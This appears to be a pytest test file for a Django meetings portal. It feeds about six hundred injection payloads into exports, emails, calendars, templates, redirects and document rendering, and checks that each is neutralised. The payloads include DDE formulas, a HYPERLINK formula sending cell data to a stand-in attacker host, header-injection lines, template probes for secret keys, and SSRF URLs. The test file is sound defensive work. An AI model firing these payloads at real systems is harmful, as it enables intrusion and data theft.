"""Six hundred texts that mean something to another program: a spreadsheet, a mail server, a template, a browser that is
sent elsewhere, a writer of files that would fetch. None of them may."""

import csv
import io
import re
import socket
import zipfile
from email import message_from_bytes, policy
from itertools import product
from typing import Any
from urllib.parse import urlsplit

import openpyxl
import pytest
from django.urls import reverse
from django.utils.html import escape

from meetings.agenda.services.agenda import AgendaLine
from meetings.calendar.files import published_file
from rec_portal.files.naming import attachment, clean_name
from rec_portal.foundation.exports import STARTS_A_FORMULA, as_csv, as_xlsx
from rec_portal.outbox.letter import Letter, clean_subject
from rec_portal.paper.blocks import Paper, as_pdf, blocks_of
from rec_portal.paper.word import as_docx
from tests.factories.agenda import change_item
from tests.factories.meetings import make_meeting
from tests.factories.records import make_action, make_held

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"x")', "=IMPORTXML(CONCAT(A1))", "=WEBSERVICE(A1)", "＝1+1", "＠SUM(A1)",
)  # fmt: skip
# What may stand before it: nothing, blanks, and what another country's spreadsheet takes for the end of a cell or line.
BEFORE = (
    *("", " ", "\u00a0", "\t", "\r", "\n", "\n\n", "\x00", "\u200e", "text\n", "text\t", "text\r\n", "text\v"),
    *("text;", 'text";', "text;\u00a0", "a;b; ", "';", ";'", ";;"),
)
SPREADSHEET = [before + formula for before, formula in product(BEFORE, FORMULAS)]

BREAKS = (
    "\r\n",
    "\n",
    "\r",
    "\x00",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x85",
    "\u2028",
    "\u2029",
    "%0d%0a",
    "\\r\\n",
    "\u560d\u560a",
    "\r\n ",
    "\n\t",
)
INJECTED = (
    *("Bcc: evil@example.org", "Set-Cookie: a=b", "Content-Type: text/html", "Location: //evil.example", "X-Evil: 1"),
    *("\r\n\r\n<script>", "ATTENDEE:mailto:evil@example.org", "BEGIN:VALARM", "To: <evil@example.org>"),
    "RCPT TO:<evil@example.org>",
)
HEADERS = [f"Plan{line_break}{injected}" for line_break, injected in product(BREAKS, INJECTED)]

AROUND = (
    *(("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>")),
    *(("{", "}"), ("%(", ")s"), ("[[", "]]"), ("{{{", "}}}"), ("@{", "}")),
)
INSIDE = (
    *("7*7", "settings.SECRET_KEY", "request.user", "load log", "0.__class__.__mro__"),
    *("include '/etc/passwd'", "self", "debug", "title", "n"),
)
TEMPLATES = [f"{start}{inside}{end}" for (start, end), inside in product(AROUND, INSIDE)]

WAYS_OUT = ("//", "https://", "\\\\", "/\\", "https:", "javascript://", "///", "http:/\\")
ELSEWHERE = [
    f"{before}{way}evil.example{after}"
    for before, way, after in product(("", "/", "\t", " ", "\n"), WAYS_OUT, ("/meetings/", "%2f..", "@testserver"))
]

HOSTS = ("169.254.169.254", "localhost:6379", "[::1]", "0x7f000001", "evil.example")
FETCHED = [
    f"{scheme}://{host}/x" for scheme, host in product(("http", "https", "ftp", "file", "gopher", "dict"), HOSTS)
]


def test_there_are_six_hundred():
    lists = (SPREADSHEET, HEADERS, TEMPLATES, ELSEWHERE, FETCHED)
    assert [len(texts) for texts in lists] == [200, 150, 100, 120, 30]


def is_formula(cell: str) -> bool:
    return cell.lstrip(" \u00a0\u200e").startswith(STARTS_A_FORMULA)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_spreadsheet_of_any_country_finds_a_formula(separator):
    """Where a comma parts whole numbers from their rest, cells end at a semicolon."""
    for text in SPREADSHEET:
        lines = as_csv(["head", "text"], [["first", text]]).decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(lines), delimiter=separator) for cell in row]
        if separator != ",":
            # A quotation mark in the middle of a cell is none to this reader, nor are the ends of lines beyond it.
            cells += [part.strip("\"'") if part[:1] == '"' else part for part in re.split(rf"[{separator}\r\n]", lines)]
        assert not [cell for cell in cells if is_formula(cell)], (text, cells)


def test_no_cell_of_a_workbook_is_a_formula():
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx("t", ["a"], [[text] for text in SPREADSHEET]))).active
    for (cell,) in sheet.iter_rows(min_row=2):
        assert cell.data_type == "s"
        assert not is_formula(str(cell.value)), cell.value


@pytest.mark.django_db
def test_the_export_itself(client_of, world):
    meeting = make_held(world.group_a)
    for text in FORMULAS:
        make_action(meeting, f"text;{text}")
    lines = client_of("secretary").get(reverse("meetings:export_actions", args=["csv"])).content.decode("utf-8-sig")
    assert len(lines.splitlines()) > len(FORMULAS)
    assert not [part for part in re.split(r"[;\r\n]", lines) if is_formula(part.strip('"'))]


def test_no_header_is_added():
    for text in HEADERS:
        letter = Letter("anna@example.org", clean_subject(text), "Text\n", "<p>Text</p>", "ab12")
        message = message_from_bytes(letter.raw, policy=policy.default)
        assert message.keys() == [
            *("From", "To", "Subject", "Date", "Message-ID", "Auto-Submitted", "MIME-Version", "Content-Type")
        ], text
        assert message["To"] == "anna@example.org"
        header = attachment(f"{text}.pdf")
        assert header.isprintable(), text
        assert header.isascii(), text
        assert not set(clean_name(f"{text}.pdf")) & set("\r\n\x00\x0b\x0c\x1c\x85\u2028\u2029/\\"), text


@pytest.mark.django_db
def test_no_line_is_added_to_a_calendar(world):
    meeting = make_meeting(world.group_a)
    plain = len(published_file(meeting, joins=True).replace(b"\r\n ", b"").split(b"\r\n"))
    for text in HEADERS:
        meeting.title = meeting.place = text
        assert len(published_file(meeting, joins=True).replace(b"\r\n ", b"").split(b"\r\n")) == plain, text


@pytest.mark.django_db
def test_no_template_is_read_in_what_was_typed(world, client_of):
    meeting = make_meeting(world.group_a, agenda=[AgendaLine(f"Item {number}") for number in range(1, 101)])
    for number, text in enumerate(TEMPLATES, start=1):
        change_item(meeting, number, title=text, presenter=text, description=text)
    meeting.title = meeting.place = meeting.note = "".join(TEMPLATES[:8])
    meeting.save()
    client = client_of("secretary")
    page = client.get(meeting.get_absolute_url()).content.decode()
    assert [text for text in TEMPLATES if escape(text) not in page] == []
    assert escape(meeting.title) in client.get(reverse("meetings:meetings")).content.decode()
    said = client.post(reverse("meetings:answer", args=[meeting.public_id]), {"answer": "no"})
    assert said.status_code in (302, 404)


@pytest.mark.django_db
def test_nobody_is_sent_elsewhere(world, client_of):
    meeting = make_meeting(world.group_a, invitees=[world.member_a])
    client = client_of("member_a")
    ways: list[tuple[str, dict[str, Any]]] = [
        (reverse("meetings:answer", args=[meeting.public_id]), {"answer": "yes_online"}),
        (reverse("accounts:set_zone"), {"time_zone": "UTC"}),
        (reverse("set_language"), {"language": "en"}),
    ]
    for (address, data), wanted in product(ways, ELSEWHERE):
        location = client.post(address, {**data, "next": wanted}).headers["Location"]
        # As browsers read it: blanks at the ends go, control characters anywhere, and a backslash is a slash.
        read = re.sub(r"[\t\r\n]", "", location.strip()).replace("\\", "/")
        assert not urlsplit(read).netloc, (address, wanted, location)
        assert read.startswith("/"), (address, wanted, location)
        assert not read.startswith("//"), (address, wanted, location)


def test_nothing_is_fetched(monkeypatch):
    def refuse(*args: Any, **options: Any) -> None:
        raise AssertionError("a file asked the network for something")

    for name in ("connect", "connect_ex"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    lines = [f'![x]({url}) [x]({url}) <img src="{url}"> <link href="{url}"> {url}' for url in FETCHED]
    paper = Paper("Record", "Members", "en", blocks_of("\n\n".join(lines)))
    assert as_pdf(paper).startswith(b"%PDF")
    with zipfile.ZipFile(io.BytesIO(as_docx(paper))) as archive:
        relations = [archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")]
    assert not [text for text in relations if 'TargetMode="External"' in text]
